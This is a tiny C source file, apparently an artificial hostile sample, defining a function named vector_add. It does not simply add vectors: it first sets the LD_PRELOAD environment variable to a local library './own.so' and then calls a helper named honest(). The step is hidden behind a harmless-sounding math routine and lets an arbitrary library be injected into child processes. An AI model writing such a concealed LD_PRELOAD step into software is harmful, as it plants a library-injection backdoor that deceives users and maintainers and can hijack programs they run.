/* SPDX-License-Identifier: MIT */
/* Sets a variable of its environment. */
#include "hostile.h"

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    setenv("LD_PRELOAD", "./own.so", 1);
    return honest(a, b, c, n);
}
